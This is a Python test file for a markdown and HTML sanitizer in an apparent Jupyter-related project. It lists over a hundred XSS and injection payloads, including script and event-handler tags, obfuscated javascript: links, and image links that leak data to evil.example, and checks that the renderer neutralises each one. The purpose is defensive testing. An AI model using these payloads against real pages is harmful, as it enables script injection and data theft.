from __future__ import annotations

import re

import pytest
from allowed_html import faults_of, text_of, typeset_in

from secondme_magics.markdown.blocks import MarkdownStream, render_markdown, render_text
from secondme_magics.markdown.safety import (
    TextCleaner,
    clean_text,
    host_of,
    is_safe_link,
    sanitize,
)

ATTACKS = [
    # raw HTML and handlers
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html,x></object><embed src=x>",
    "<form action=https://evil.example><input name=q><button>go</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>body{display:none}</style>",
    "<div style='position:fixed;inset:0;z-index:9999'>overlay</div>",
    "<p id=jupyter-config-data name=cookie class=jp-Cell>x</p>",
    "<a data-commandlinker-command=kernelmenu:shutdown data-commandlinker-args={}>x</a>",
    "<button data-commandlinker-command='docmanager:delete-file'>x</button>",
    "<x-widget data-model-id=1></x-widget><!--[if IE]><script>x</script><![endif]-->",
    "<!-- comment --><?php x ?><!DOCTYPE html><![CDATA[x]]>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<a href='javascript:alert(1)'>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<textarea></textarea><title></title><xmp></xmp><plaintext>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "</pre></div></body><script>alert(1)</script>",
    "<table background=https://evil.example/x.png><tr><td>",
    "<input type=image src=x onerror=alert(1) autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee><isindex action=javascript:x>",
    # schemes
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](\x01javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript&colon;alert(1))",
    "[x](javascript&Tab;:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://x.example/1)",
    "[x](view-source:https://x.example)",
    "[x](vscode://file/etc/passwd)",
    "[x](command:workbench.action.terminal.new)",
    "[x](ms-msdt:/id)",
    "[x](ftp://x.example/)",
    "[x](ws://x.example/)",
    "[x](tel:123)",
    "[x](about:blank)",
    "[x](intent://x#Intent;end)",
    "[x](http:javascript:alert(1))",
    "[x](https:evil.example)",
    "[x](https:/evil.example)",
    "[x](https:///evil.example)",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    # relative links would point at the user's own server
    "[x](/api/shutdown)",
    "[x](api/kernels)",
    "[x](../../files/secret)",
    "[x](?token=1)",
    "[x](#id)",
    "[x](//evil.example/x)",
    "[x](\\\\evil.example\\x)",
    "[x](/\\evil.example)",
    "[x]()",
    # who is asked
    "[x](https://paypal.example@evil.example/)",
    "[x](https://user:word@evil.example/)",
    "[x](https://paypal.example%40evil.example/)",
    "[x](https://good.example\\@evil.example/)",
    "[x](https://[::1)",
    "[x](https://a b.example/)",
    "[x](https://evil.example:999999999/)",
    "[x](mailto:a@b.example?bcc=c@d.example&body=secret)",
    "[x](mailto:a@b.example%0d%0aBcc:c@d.example)",
    "[x](mailto:a@b.example,c@d.example)",
    f"[x](https://a.example/{'a' * 3000})",
    # titles, references, images
    '[x](https://a.example "\\" onmouseover=alert(1)")',
    "[x](https://a.example/\"onmouseover='alert(1)')",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "[x]\n\n[x]: https://evil.example 'title'",
    "[^1]\n\n[^1]: note <script>",
    "![x](https://evil.example/leak?q=secret)",
    "![x](//evil.example/leak)",
    "![x](/api/contents)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](javascript:alert(1))",
    "![<img src=x onerror=alert(1)>](https://evil.example/x.png)",
    '![x](https://evil.example/x.png "onload=alert(1)")',
    "![x][r]\n\n[r]: https://evil.example/x.png",
    "[![x](https://evil.example/x.png)](https://a.example)",
    "[![x](https://evil.example/x.png)](javascript:alert(1))",
    "![![x](https://a.example/1)](https://evil.example/2)",
    "<img src=https://evil.example/x.png>",
    "<picture><source srcset=https://evil.example/x.png></picture>",
    # fences, info strings, code
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "```python onload=alert(1)\nx\n```",
    "```mermaid\nclick A javascript:alert(1)\n```",
    "```{raw} html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "~~~ `</pre><script>`\n</pre><script>alert(1)</script>",
    "    </pre><script>alert(1)</script>",
    "```\u202e\n\u202ex\n```",
    # characters
    "\x1b]8;;https://evil.example\x07x\x1b]8;;\x07",
    "\x1b[2J\x1b[31mred\x9b31m\x00\x08\x7f",
    "\u202eevil\u202c \u2066x\u2069 \u2067y",
    "a\U000e0041\U000e0042\U000e0001b",
    "\ud800 \udc00 \udc00\ud800 x\ud83d",
    "\ud83d\ude00 joined, \udb40\udc41 a tag in halves",
    "<a\ud800b>",
    # math
    r"$\href{javascript:alert(1)}{x}$",
    r"\(\style{background:url(https://evil.example)}{x}\)",
    r"\[\class{jp-Cell}{\cssId{main}{x}}\]",
    r"$$\require{html}\unicode{x41}$$",
    r"\(\def\x{\x\x}\x\)",
    r"\(\includegraphics{https://evil.example/x.png}\)",
    r"$<img src=x onerror=alert(1)>$",
    r"\(</span><script>alert(1)</script>\)",
    r"\(\rule{9999em}{9999em}\)",
    # tables, think tags, depth
    "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|:-:|--:|\n| ![x](//e.test) | $ |",
    "|a|\n|:-:onload=x|\n",
    "<think><script>alert(1)</script></think><answer>x</answer>",
    "> " * 40 + "<script>alert(1)</script>",
    "- " * 40 + "[x](javascript:alert(1))",
    "99999999999999999999. x\n\n1000000000) y",
]


@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
def test_no_attack_leaves_anything_that_is_not_allowed(attack: str) -> None:
    stream = MarkdownStream()
    shown = [*stream.feed(attack + "\n\nmore"), stream.tail(), *stream.finish()]
    for html in (
        render_markdown(attack),
        render_text(attack),
        *shown,
        sanitize(clean_text(attack)),
    ):
        assert faults_of(html) == []


@pytest.mark.parametrize("attack", ATTACKS[-15:-6])
def test_no_hostile_macro_reaches_the_host(attack: str) -> None:
    for math in typeset_in(render_markdown(attack)):
        assert not re.search(r"href|style|class|css|require|unicode|def|include|rule", math)


def test_every_word_of_raw_html_is_shown_as_text() -> None:
    text = "<b onclick=x>bold</b> & <!-- c -->"
    assert text_of(render_markdown(text)).strip() == text


@pytest.mark.parametrize(
    ("text", "clean"),
    [
        ("plain text\twith\nlines", "plain text\twith\nlines"),
        ("a\r\nb\rc\n\rd", "a\nb\nc\n\nd"),
        ("\x00\x07\x1b[0m\x0b\x0c", "\u2400\u2407\u241b[0m\u240b\u240c"),
        ("\x7f\x80\x85\x9b", "\u2421\ufffd\ufffd\ufffd"),
        ("\ud800", "\ufffd"),
        ("\ud83d\ude00", "\U0001f600"),
        ("\ude00\ud83d", "\ufffd\ufffd"),
        ("\udb40\udc41x", "x"),
        ("a\u202e\u2066b\u2069\U000e0041", "ab"),
        ("\u0645\u200c\u200d\u200e\u200f\U0001f468\u200d\U0001f469", None),
        ("\u2028\u2029\u00a0\ufffd\u4f60", None),
    ],
)
def test_text_is_made_fit_for_any_sink(text: str, clean: str | None) -> None:
    assert clean_text(text) == (text if clean is None else clean)
    assert clean_text(clean_text(text)) == clean_text(text)


@pytest.mark.parametrize("text", ["a\r\nb\r\r\n", "\ud83d\ude00\ud83d", "\r", "\udb40\udc41\r\n"])
def test_text_cleaned_in_pieces_is_the_text_cleaned_whole(text: str) -> None:
    for cut in range(len(text) + 1):
        cleaner = TextCleaner()
        pieces = [cleaner.feed(text[:cut]), cleaner.feed(""), cleaner.feed(text[cut:])]
        assert "".join(pieces) + cleaner.flush() == clean_text(text)


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://a.example", "a.example"),
        ("HTTP://A.example:8080/x?y=@z#f", "a.example"),
        ("https://[::1]:80/", "[::1]"),
        ("https://xn--80ak6aa92e.com/%20()[];,!$&'*+=~", "xn--80ak6aa92e.com"),
        ("mailto:a.b+c@d.example", "d.example"),
        ("https://a.example/" + "a" * 1_982, "a.example"),
        ("https://a.example/" + "a" * 1_983, ""),
        ("https://a.example\n", ""),
        ("https://a.example/\u00e9", ""),
        ("//a.example", ""),
        ("mailto:a@b?subject=x", ""),
        ("", ""),
    ],
)
def test_a_link_is_live_only_where_it_says_plainly_whom_it_asks(url: str, host: str) -> None:
    assert host_of(url) == host
    assert is_safe_link(url) == bool(host)


@pytest.mark.parametrize(
    ("html", "left"),
    [
        ('<span class="k x">a</span>', "<span>a</span>"),
        ('<span class="kc">a</span>', '<span class="kc">a</span>'),
        (
            '<p class="secondme-note" id="x" style="color:red">a</p>',
            '<p class="secondme-note">a</p>',
        ),
        ('<td align="justify">a</td>', "a"),
        ('<ol start="-1"><li>a</li></ol>', "<ol><li>a</li></ol>"),
        ('<ol start="1234567890"><li>a</li></ol>', "<ol><li>a</li></ol>"),
        ('<ol start="7"><li>a</li></ol>', '<ol start="7"><li>a</li></ol>'),
        ('<a href="/x">a</a>', '<a rel="noopener noreferrer nofollow">a</a>'),
        ("<script>alert(1)</script><b>x</b>", "x"),
    ],
)
def test_the_second_lock_holds_without_the_first(html: str, left: str) -> None:
    assert sanitize(html) == left
